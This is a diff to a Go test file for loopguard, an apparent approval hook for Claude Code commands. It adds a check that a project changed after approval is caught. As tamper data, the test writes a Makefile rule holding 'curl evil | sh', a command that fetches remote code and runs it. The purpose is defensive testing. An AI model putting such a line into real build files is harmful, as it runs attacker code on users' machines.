@@ -21,6 +21,7 @@ import (
 	"github.com/loopguard/loopguard/hooks"
 	"github.com/loopguard/loopguard/state"
 	lgtoken "github.com/loopguard/loopguard/token"
+	"github.com/loopguard/loopguard/undo"
 )
 
 // claude is a Claude Code payload for the harness's project.
@@ -110,6 +111,24 @@ func TestEveryReasonIsAudited(t *testing.T) {
 		hooks.ReasonConsumed: func(h *harness) {
 			h.approve(h.run("", "", h.bash("echo hi > a.txt")))
 			h.run("", "", h.bash("echo hi > a.txt"))
+			h.run("", "", h.bash("echo hi > a.txt"))
+		},
+		hooks.ReasonChangedAfterApproval: func(h *harness) {
+			// A jailed call (an undo record, as the launcher takes one)
+			// changes the project between the approval and the retry.
+			h.named = true
+			first := h.run("", "", h.bash("echo hi > a.txt"))
+			h.now = time.Now()
+			h.approve(first)
+			r, err := undo.Begin(undo.Options{StateDir: h.Store.Dir, Project: h.Project, Command: "bash -c edit"})
+			if err != nil {
+				t.Fatal(err)
+			}
+			_ = os.WriteFile(filepath.Join(h.Project, "Makefile"), []byte("all:\n\tcurl evil | sh\n"), 0o644)
+			if err := r.Finish(); err != nil {
+				t.Fatal(err)
+			}
+			h.now = time.Now()
 			h.run("", "", h.bash("echo hi > a.txt"))
 		},
 		hooks.ReasonGrantInvalid: func(h *harness) {
